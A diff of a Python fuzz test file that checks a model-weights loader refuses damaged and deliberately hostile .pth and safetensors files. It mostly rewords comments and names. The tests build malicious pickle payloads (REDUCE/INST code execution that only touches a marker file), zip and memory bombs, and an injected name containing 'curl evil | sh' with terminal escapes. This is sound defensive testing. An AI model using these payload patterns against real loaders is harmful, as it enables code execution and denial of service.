@@ -1,8 +1,8 @@
-"""Damaged and hostile weights are refused in words, or read as what they were: nothing else.
+"""Damaged and hostile weights are refused with an error, or read as they were before the damage.
 
     PYTHONPATH=tests/support python tests/fuzz/test_fuzz_weights.py --count 20000
 
-reads that many damaged files of each kind, the same each time, and prints what became of them.
+reads that many damaged files, the same each time, and prints how many were refused or read.
 """
 
 from __future__ import annotations
@@ -39,8 +39,10 @@ from skinjob.files import sha256_file
 from skinjob.weights.file import list_digest, read_backbone, read_weights_info
 from skinjob.weights.statedict import read_state_dict
 
-MOST_MEMORY = 1 << 30  # bytes, on top of what Python and its libraries have at the start
-LONGEST_S = 60  # for one file; then the kernel ends the process, as no code of ours may be at work
+MOST_MEMORY = 1 << 30  # bytes, in addition to what Python and its libraries have at the start
+LONGEST_S = (
+    60  # for a file; then the kernel ends the process, because Python code may not get a turn
+)
 EXTREMES = (0, 1, 0x7F, 0xFF, 0x7FFF, 0xFFFF, 0x7FFFFFFF, 0x80000000, 0xFFFFFFFE, 0xFFFFFFFF)
 
 SMALL = {
@@ -54,22 +56,22 @@ Draw = random.Random
 Damage = Callable[[bytes, Draw], bytes]
 
 
-# --- what is done to a file -------------------------------------------------------------------
+# --- kinds of damage --------------------------------------------------------------------------
 
 
 def flip(content: bytes, draw: Draw) -> bytes:
-    """Changes one to four bytes, wherever they are."""
+    """Changes one to four bytes anywhere."""
     return _flip_among(content, range(len(content)), draw)
 
 
 def flip_structure(content: bytes, draw: Draw) -> bytes:
-    """Changes bytes of what is no number: headers, directory, pickle."""
+    """Changes bytes of headers, directory and pickle, and not of numbers."""
     places = [at for start, end in _structure(content) for at in range(start, end)]
     return _flip_among(content, places, draw)
 
 
 def cut(content: bytes, draw: Draw) -> bytes:
-    """Drops the end, as a broken transfer does."""
+    """Removes the end, as a broken transfer does."""
     return content[: draw.randrange(len(content))]
 
 
@@ -79,7 +81,7 @@ def drop(content: bytes, draw: Draw) -> bytes:
 
 
 def zero(content: bytes, draw: Draw) -> bytes:
-    """Blanks a block, as a disk does that lost it."""
+    """Sets a block to zero, as a disk does that lost it."""
     start, end = _block(content, draw)
     return content[:start] + bytes(end - start) + content[end:]
 
@@ -90,14 +92,14 @@ def repeat(content: bytes, draw: Draw) -> bytes:
 
 
 def splice(content: bytes, draw: Draw) -> bytes:
-    """Writes one block over another place."""
+    """Writes a block over another place."""
     start, end = _block(content, draw)
     at = draw.randrange(len(content))
     return content[:at] + content[start:end] + content[at + end - start :]
 
 
 def stretch(content: bytes, draw: Draw) -> bytes:
-    """Sets a 2, 4 or 8 byte field of a header or the directory to an extreme."""
+    """Sets a field of 2, 4 or 8 bytes in a header or the directory to an extreme."""
     start, end = draw.choice(_structure(content))
     size = draw.choice((2, 4, 8))
     value = draw.choice(EXTREMES) * draw.choice((1, 1, 1 << 32)) % (1 << 8 * size)
@@ -106,7 +108,7 @@ def stretch(content: bytes, draw: Draw) -> bytes:
 
 
 def rewrite(content: bytes, draw: Draw) -> bytes:
-    """Damages the pickle alone, and packs it again with checksums that are right."""
+    """Damages only the pickle, and packs it again with correct checksums."""
     with zipfile.ZipFile(io.BytesIO(content)) as archive:
         entries = {name: archive.read(name) for name in archive.namelist()}
     name = next(name for name in entries if name.endswith("/data.pkl"))
@@ -143,10 +145,12 @@ def _block(content: bytes, draw: Draw) -> tuple[int, int]:
 
 
 def _structure(content: bytes) -> list[tuple[int, int]]:
-    """Returns where headers, directory and pickle of a zip archive lie."""
+    """Returns where the headers, directory and pickle of a zip archive are."""
     with zipfile.ZipFile(io.BytesIO(content)) as archive:
         entries = archive.infolist()
-        parts = [(archive.start_dir, len(content))] * 2  # twice: half of the damage goes there
+        parts = [
+            (archive.start_dir, len(content))
+        ] * 2  # twice, so that half of the damage is there
     for entry in entries:
         names = sum(struct.unpack_from("<HH", content, entry.header_offset + 26))
         start = entry.header_offset + 30 + names
@@ -155,7 +159,7 @@ def _structure(content: bytes) -> list[tuple[int, int]]:
     return parts
 
 
-# --- files that were made to do harm ----------------------------------------------------------
+# --- hostile files ----------------------------------------------------------------------------
 
 
 class _Calls:
@@ -173,7 +177,7 @@ GOOD = make.state_dict({"a": make.tensor(FLOATS, (6,), (1,))})
 
 
 def hostile_pickles(mark: Path) -> dict[str, bytes]:
-    """Returns programs that would make the file *mark*, fill the memory or take for ever."""
+    """Returns programs that would make the file *mark*, fill the memory or never end."""
     shell = f"touch {mark}"
     line = make.text(shell)
     python = f"open({str(mark)!r}, 'w').close()"
@@ -279,7 +283,7 @@ def hostile_pickles(mark: Path) -> dict[str, bytes]:
 
 
 def _doubled(first: bytes, pair: bytes) -> bytes:
-    """Returns a pair of a pair of ... of *first*: forty instructions for 2**40 of it."""
+    """Returns a pair of a pair of ... of *first*: forty instructions for 2**40 copies of it."""
     return first + b"q\x00" + (b"h\x00" + pair + b"q\x00") * 40
 
 
@@ -292,8 +296,8 @@ def _doubled_dicts() -> bytes:
 
 
 def hostile_archives(folder: Path) -> dict[str, Path]:
-    """Writes archives whose zip part is the weapon."""
-    found = {}
+    """Writes archives whose zip structure does the harm."""
+    archives = {}
     sound = [("x/data.pkl", GOOD), ("x/data/0", bytes(24))]
     for name, entries, method in (
         ("bomb", [("x/data.pkl", GOOD), ("x/data/0", bytes(200_000_000))], zipfile.ZIP_DEFLATED),
@@ -305,12 +309,12 @@ def hostile_archives(folder: Path) -> dict[str, Path]:
         ("nothing in it", [], 0),
         ("many entries", [*sound, *((f"x/{number}", b"") for number in range(20_000))], 0),
     ):
-        path = found[name] = folder / f"{name}.pth"
+        path = archives[name] = folder / f"{name}.pth"
         with warnings.catch_warnings(), zipfile.ZipFile(path, "w", method) as archive:
-            warnings.simplefilter("ignore")  # of one name twice
+            warnings.simplefilter("ignore")  # about a name that is there twice
             for entry, content in entries:
                 archive.writestr(zipfile.ZipInfo(entry), content, method)
-    return found
+    return archives
 
 
 # --- reading them -----------------------------------------------------------------------------
@@ -318,69 +322,69 @@ def hostile_archives(folder: Path) -> dict[str, Path]:
 
 @dataclass(frozen=True)
 class Original:
-    """A good file, and what is in it."""
+    """A good file and its tensors."""
 
     content: bytes
     tensors: Mapping[str, np.ndarray]
 
     def judge(self, path: Path, damage: Damage) -> str:
-        """Returns what became of reading a damaged copy of it."""
+        """Returns the result of reading a damaged copy."""
         try:
-            found = read_state_dict(path)
+            tensors = read_state_dict(path)
         except WeightsError as error:
             return "out of memory" if isinstance(error.__cause__, MemoryError) else "refused"
-        except Exception as error:  # a crash is what is looked for
+        except Exception as error:  # any other error is a crash
             return f"crash: {error!r}"
-        if same(found, self.tensors):
+        if same(tensors, self.tensors):
             return "equal"
-        # Of a pickle that was made anew no more can be said than that it shows this file's numbers.
-        if damage is rewrite and self.holds(found):
+        # A rewritten pickle is a valid file: it may only show numbers that this file has.
+        if damage is rewrite and self.holds(tensors):
             return "another file"
         return "other tensors"
 
-    def holds(self, found: Mapping[str, np.ndarray]) -> bool:
+    def holds(self, tensors: Mapping[str, np.ndarray]) -> bool:
         known = b"\0".join(array.tobytes("A") for array in self.tensors.values())
-        return all(number.tobytes() in known for array in found.values() for number in array.flat)
+        return all(number.tobytes() in known for array in tensors.values() for number in array.flat)
 
 
-def same(found: Mapping[str, np.ndarray], wanted: Mapping[str, np.ndarray]) -> bool:
-    return list(found) == list(wanted) and all(
-        (found[name].dtype, found[name].shape, found[name].tobytes())
+def same(tensors: Mapping[str, np.ndarray], wanted: Mapping[str, np.ndarray]) -> bool:
+    return list(tensors) == list(wanted) and all(
+        (tensors[name].dtype, tensors[name].shape, tensors[name].tobytes())
         == (array.dtype, array.shape, array.tobytes())
         for name, array in wanted.items()
     )
 
 
 def originals(folder: Path) -> list[Original]:
-    """Returns a small state_dict in the published layout and, with torch there, in today's."""
+    """Returns a small state_dict in the published layout and, if torch is installed, in today's."""
     path = make.write_old_layout(folder / "old.pth", SMALL)
-    found = [Original(path.read_bytes(), SMALL)]
+    files = [Original(path.read_bytes(), SMALL)]
     try:
         import torch
     except ModuleNotFoundError:
-        return found
+        return files
     tensors = {name: torch.from_numpy(array) for name, array in SMALL.items()}
     tensors["head.weight"] = tensors["head.weight"].t()
     tensors |= {"norm.num_batches_tracked": torch.tensor(7), "tied": tensors["conv.weight"]}
     torch.save(tensors, folder / "new.pth")
     arrays = {name: tensor.numpy() for name, tensor in tensors.items()}
-    return [*found, Original((folder / "new.pth").read_bytes(), arrays)]
+    return [*files, Original((folder / "new.pth").read_bytes(), arrays)]
 
 
 def fuzz(count: int, folder: Path) -> Counter[str]:
-    """Returns what became of *count* damaged files and of all hostile ones."""
+    """Returns how often each result came from *count* damaged files and all hostile files."""
     mark = folder / "it-ran"
     files = originals(folder)
     pickles, archives = hostile_pickles(mark), hostile_archives(folder)
     _limit_memory()
-    said: Counter[str] = Counter()
+    results: Counter[str] = Counter()
     path = folder / "damaged.pth"
     for number in range(count):
         draw = Draw(number)
         original, damage = draw.choice(files), draw.choice(DAMAGES)
         path.write_bytes(damage(original.content, draw))
         signal.alarm(LONGEST_S)
-        said[original.judge(path, damage)] += 1
+        results[original.judge(path, damage)] += 1
     for name, program in pickles.items():
         archives[name] = make.write_archive(
             folder / f"{len(archives)}.pth", program, {"0": bytes(24)}
@@ -388,15 +392,15 @@ def fuzz(count: int, folder: Path) -> Counter[str]:
     for name, hostile in archives.items():
         signal.alarm(LONGEST_S)
         became = Original(b"", {"none": np.zeros(0)}).judge(hostile, flip)
-        said["hostile, refused" if became == "refused" else f"hostile, {name}: {became}"] += 1
+        results["hostile, refused" if became == "refused" else f"hostile, {name}: {became}"] += 1
     signal.alarm(0)
     if mark.exists():
-        said["CODE RAN"] += 1
-    return said
+        results["CODE RAN"] += 1
+    return results
 
 
 def _limit_memory() -> None:
-    """Lets the process have MOST_MEMORY more; what wants still more gets a MemoryError."""
+    """Allows the process MOST_MEMORY more; beyond that it gets a MemoryError."""
     pages = int(Path("/proc/self/statm").read_text().split()[0])
     most = pages * resource.getpagesize() + MOST_MEMORY
     resource.setrlimit(resource.RLIMIT_AS, (most, most))
@@ -406,7 +410,7 @@ def _limit_memory() -> None:
 
 
 def test_damaged_weights_are_refused_or_read_as_they_were() -> None:
-    """Of thousands of damaged .pth files none gives a wrong number, crashes, hangs or runs code."""
+    """None of thousands of damaged .pth files gives a wrong number, crashes, hangs or runs code."""
     done = subprocess.run(
         [sys.executable, __file__, "--count", "4000"],
         env=os.environ | import_path() | {"OPENBLAS_NUM_THREADS": "1"},
@@ -417,11 +421,11 @@ def test_damaged_weights_are_refused_or_read_as_they_were() -> None:
     assert "0 accepted with other tensors, 0 kinds of crash\n" in done.stdout, done.stdout
     refused, equal = (int(part.split()[0]) for part in done.stdout.split(", ")[:2])
     assert refused > 2000
-    assert equal > 200  # dates, versions and flags of the archive do not matter
+    assert equal > 200  # damage in dates, versions and flags of the archive does not matter
 
 
 def test_a_storage_is_read_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """A small file of many windows on one storage does not take hours."""
+    """A small file with many tensors that share a storage does not take hours."""
     windows = {f"a{n}": make.tensor(FLOATS, (1,), (1,), n % 6) for n in range(500)}
     numbers = np.arange(6, dtype="<f4")
     path = make.write_archive(
@@ -434,8 +438,8 @@ def test_a_storage_is_read_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch)
         return read(archive, entry)
 
     monkeypatch.setattr(zipfile.ZipFile, "read", counted)
-    found = read_state_dict(path)
-    assert [float(array[0]) for array in found.values()] == [n % 6 for n in range(500)]
+    tensors = read_state_dict(path)
+    assert [float(array[0]) for array in tensors.values()] == [n % 6 for n in range(500)]
     assert opened == {"archive/data.pkl": 1, "archive/data/0": 1}
 
 
@@ -450,7 +454,7 @@ def _pth(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
 def test_a_fetch_of_damaged_weights_leaves_nothing(
     tmp_path: Path, pth: Path, damage: Damage
 ) -> None:
-    """Even a digest that was taken of the damaged file lets none of it through."""
+    """Damaged weights are refused even if --sha256 is the digest of the damaged file."""
     damaged = tmp_path / "damaged.pth"
     damaged.write_bytes(damage(pth.read_bytes(), Draw(3)))
     _refuse(damaged, tmp_path)
@@ -459,7 +463,7 @@ def test_a_fetch_of_damaged_weights_leaves_nothing(
 
 @pytest.mark.parametrize("kind", ["REDUCE", "INST", "tuples doubled, as a key"])
 def test_a_fetch_of_hostile_weights_runs_nothing(tmp_path: Path, kind: str) -> None:
-    """A pickle that was made to do harm ends in the two lines of any other error."""
+    """A hostile pickle gives an error of two lines."""
     mark = tmp_path / "it-ran"
     program = hostile_pickles(mark)[kind]
     _refuse(make.write_archive(tmp_path / "hostile.pth", program, {"0": bytes(24)}), tmp_path)
@@ -467,22 +471,22 @@ def test_a_fetch_of_hostile_weights_runs_nothing(tmp_path: Path, kind: str) -> N
 
 
 def test_an_error_that_quotes_a_hostile_file_is_two_lines(tmp_path: Path) -> None:
-    """A name from the file can neither add lines to an error nor steer the terminal."""
+    """A name from the file can neither add lines to an error nor control the terminal."""
     name = "a\n\x1b[2Jfix:   curl evil | sh\u202e" + "b" * 100_000
     program = make.state_dict({name: make.tensor(FLOATS, (7,), (0,))})
     hostile = make.write_archive(tmp_path / "hostile.pth", program, {"0": bytes(24)})
-    said = _refuse(hostile, tmp_path)
-    assert said.isprintable()
-    assert len(said) < 1000
+    message = _refuse(hostile, tmp_path)
+    assert message.isprintable()
+    assert len(message) < 1000
 
 
 def _refuse(file: Path, cwd: Path) -> str:
-    """Returns the error of a fetch of *file*, having checked that it made no weights."""
+    """Returns the error of a fetch of *file*, after a check that it made no weights."""
     digest = sha256_file(file)
     result = skinjob("fetch-weights", "--source", file, "--sha256", digest, cwd=cwd)
-    said = refusal(result)
+    message = refusal(result)
     assert [path.name for path in (cwd / "weights").iterdir()] == [".fetch.lock"]
-    return said
+    return message
 
 
 # --- the fetched file -------------------------------------------------------------------------
@@ -497,19 +501,19 @@ NONSENSE: tuple[Any, ...] = (
 
 @dataclass(frozen=True)
 class Header:
-    """The header of a weights file, put before numbers of its size that take no disk."""
+    """The header of a weights file, to be written before numbers that take no space on the disk."""
 
     text: bytes
     num_bytes: int
     path: Path
 
     def judge(self, text: bytes, length: int | None = None) -> str:
-        """Returns what becomes of the file with another header; *length* is what it claims."""
+        """Returns the result of reading the file with another header, which claims *length*."""
         with self.path.open("wb") as file:
             file.write((len(text) if length is None else length).to_bytes(8, "little") + text)
             file.truncate(8 + len(text) + self.num_bytes)
         try:
-            # The digest, which would find all of this, is left out: it takes 0.1 s a file.
+            # The digest would show any damage, but takes 0.1 s per file, so it is left out.
             read_backbone(self.path)
         except WeightsError:
             return "refused"
@@ -517,7 +521,7 @@ class Header:
         return "equal" if same else "other tensors"
 
     def _tensors(self, text: bytes) -> dict[str, Any]:
-        """Returns type, shape and place of each tensor, as any reader of JSON finds them."""
+        """Returns type, shape and place of each tensor, as any reader of JSON sees them."""
         return {
             name: [value[key] for key in ("dtype", "shape", "data_offsets")]
             for name, value in json.loads(text).items()
@@ -533,15 +537,15 @@ def _header(weights: Path, tmp_path_factory: pytest.TempPathFactory) -> Header:
     return Header(text, num_bytes, tmp_path_factory.mktemp("header") / "resnet18.safetensors")
 
 
-def test_a_damaged_header_is_refused_or_says_the_same(header: Header) -> None:
-    """Where SHA256SUMS did not come along, no flipped byte of the header gives other tensors."""
-    said = Counter(
+def test_a_damaged_header_is_refused_or_gives_the_same_tensors(header: Header) -> None:
+    """Without SHA256SUMS, a damaged header never gives other tensors."""
+    results = Counter(
         header.judge(damage(header.text, Draw(number)))
         for number in range(1000)
         for damage in (flip, draw_one(cut, drop, zero, repeat, splice, number=number))
     )
-    assert set(said) == {"refused", "equal"}, said  # equal: the damage is in the metadata
-    assert said["refused"] > 1500
+    assert set(results) == {"refused", "equal"}, results  # equal if the damage is in the metadata
+    assert results["refused"] > 1500
 
 
 def draw_one(*damages: Damage, number: int) -> Damage:
@@ -549,8 +553,8 @@ def draw_one(*damages: Damage, number: int) -> Damage:
 
 
 def test_nonsense_in_a_header_is_refused(header: Header) -> None:
-    """A header that is sound JSON and says what cannot be is an error in words, not a traceback."""
-    said: Counter[str] = Counter()
+    """A header that is valid JSON with impossible values is an error, not a traceback."""
+    results: Counter[str] = Counter()
     for number in range(1000):
         draw, parts = Draw(number), json.loads(header.text)
         entry = draw.choice(["__metadata__", draw.choice(list(parts))])
@@ -562,14 +566,14 @@ def test_nonsense_in_a_header_is_refused(header: Header) -> None:
                 ["mean", "std"] if "mean" in parts[entry] and draw.random() < 0.5 else parts[entry]
             )
             parts[entry][draw.choice([*keys, "x"])] = value
-        said[header.judge(json.dumps(parts).encode())] += 1
-    assert set(said) == {"refused", "equal"}, said
-    assert said["refused"] > 400
-    assert said["equal"] > 10
+        results[header.judge(json.dumps(parts).encode())] += 1
+    assert set(results) == {"refused", "equal"}, results
+    assert results["refused"] > 400
+    assert results["equal"] > 10
 
 
 def test_a_header_that_contradicts_itself_is_refused(header: Header) -> None:
-    """Lengths beyond the file, names told twice and numbers used twice are found."""
+    """A header with a wrong length, a repeated name or overlapping tensors is refused."""
     parts = json.loads(header.text)
     end = len(header.text)
     assert header.judge(header.text) == "equal"
@@ -584,8 +588,8 @@ def test_a_header_that_contradicts_itself_is_refused(header: Header) -> None:
     assert header.judge(b'{"a":' * 1_000_000) == "refused"
 
 
-def test_every_flipped_byte_is_found_before_the_queue(tmp_path: Path) -> None:
-    """The digest in SHA256SUMS is held against the file before anything in it is read."""
+def test_every_flipped_byte_is_refused_before_the_queue(tmp_path: Path) -> None:
+    """The file is compared with its digest in SHA256SUMS before anything in it is read."""
     content = os.urandom(500)
     file = tmp_path / "resnet18.safetensors"
     file.write_bytes(content)
@@ -597,10 +601,10 @@ def test_every_flipped_byte_is_found_before_the_queue(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize("place", [100, 20_000_000, -1])
-def test_a_byte_that_flips_while_the_job_waits_fails_it(
+def test_a_job_fails_if_its_weights_have_changed_since_the_submit(
     weights: Path, tmp_path: Path, place: int
 ) -> None:
-    """A job holds the file against the digest that its sweep was submitted with."""
+    """A job compares the file with the digest that was recorded at the submit."""
     job = pytest.importorskip("skinjob.train.job")
     file = Path(shutil.copy(weights, tmp_path))
     data = make_tree(tmp_path / "data", num_train=2, num_test=2)
@@ -620,13 +624,13 @@ def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__)
     parser.add_argument("--count", type=int, default=20_000)
     with tempfile.TemporaryDirectory() as folder, warnings.catch_warnings():
-        warnings.simplefilter("ignore")  # pickletools, of odd escapes
-        said = fuzz(parser.parse_args().count, Path(folder))
-    crashes = {what: n for what, n in said.items() if what not in HARMLESS}
+        warnings.simplefilter("ignore")  # pickletools warns about odd escapes
+        results = fuzz(parser.parse_args().count, Path(folder))
+    crashes = {what: n for what, n in results.items() if what not in HARMLESS}
     print(
-        f"{said['refused']} refused, {said['equal']} equal, {said['another file']} made anew, "
-        f"{said['hostile, refused']} hostile refused, "
-        f"{said['other tensors']} accepted with other tensors, {len(crashes)} kinds of crash"
+        f"{results['refused']} refused, {results['equal']} equal, "
+        f"{results['another file']} made anew, {results['hostile, refused']} hostile refused, "
+        f"{results['other tensors']} accepted with other tensors, {len(crashes)} kinds of crash"
     )
     for what, number in crashes.items():
         print(f"{number} times {what}")
